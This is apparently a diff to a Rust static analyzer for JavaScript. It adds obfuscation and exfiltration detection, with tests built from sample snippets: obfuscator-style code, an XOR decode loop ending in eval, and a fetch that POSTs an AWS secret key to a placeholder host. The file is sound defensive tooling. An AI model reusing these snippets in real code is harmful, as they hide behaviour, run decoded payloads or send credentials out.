@@ -11,6 +11,7 @@
 //! It must not decide anything (rules do) and never runs the code.
 
 mod names;
+mod shape;
 mod value;
 mod walk;
 
@@ -77,6 +78,7 @@ pub(crate) fn analyze_nested(code: &str, budget: &Budget) -> Result<Vec<Fact>, A
         return Err(e);
     }
     let mut facts = second.facts;
+    facts.extend(shape::signals(root, code, budget));
     program_signals(&mut facts);
     Ok(dedupe(facts))
 }
@@ -870,5 +872,52 @@ mod tests {
             .stack_size(2 << 20)
             .spawn(move || extract(&code, &Budget::start()).is_ok());
         assert!(r.map(|h| h.join().unwrap_or(false)).unwrap_or(false));
+    }
+
+    #[test]
+    fn obfuscator_shapes() {
+        assert_signal(
+            "(function (g) { const a = g(); while (!![]) { a['push'](a['shift']()); break; } })(x);",
+            "obfuscator-shape",
+        );
+        assert_signal(
+            "var _0xa1b = 1, _0xc2d = 2, _0xe3f = 3, _0x4a5 = 4;",
+            "obfuscator-shape",
+        );
+        assert_signal("for (var j = +!!false; j < 2; j++) {}", "obfuscator-shape");
+        assert_signal("const s = [] + {};", "obfuscator-shape");
+        assert_signal(
+            "function t() { var a = ['a', 'b', 'c', 'd', 'e']; t = function () { return a; }; return t(); }",
+            "obfuscator-shape",
+        );
+        assert_no_signal(
+            "q.push(q.shift()); const on = !!flag; const n = +s;",
+            "obfuscator-shape",
+        );
+        assert_no_signal("var _0xa1b = 1;", "obfuscator-shape");
+    }
+
+    #[test]
+    fn xor_decode_loops() {
+        let cipher = "let o = ''; for (let i = 0; i < d.length; i++) { o += String.fromCharCode(d[i] ^ k.charCodeAt(i % k.length)); }";
+        assert_signal(cipher, "decode-loop");
+        assert_no_signal(cipher, "decode-exec");
+        assert_signal(&format!("{cipher} eval(o);"), "decode-exec");
+        assert_no_signal(
+            "let h = 5381; for (let i = 0; i < s.length; i++) { h ^= s.charCodeAt(i); }",
+            "decode-loop",
+        );
+    }
+
+    #[test]
+    fn secret_env_variables_reaching_requests() {
+        assert_signal(
+            "fetch('https://x.example', { method: 'POST', body: process.env.AWS_SECRET_ACCESS_KEY })",
+            "exfiltration",
+        );
+        assert_no_signal(
+            "fetch('https://x.example', { body: process.env.NODE_ENV })",
+            "exfiltration",
+        );
     }
 }
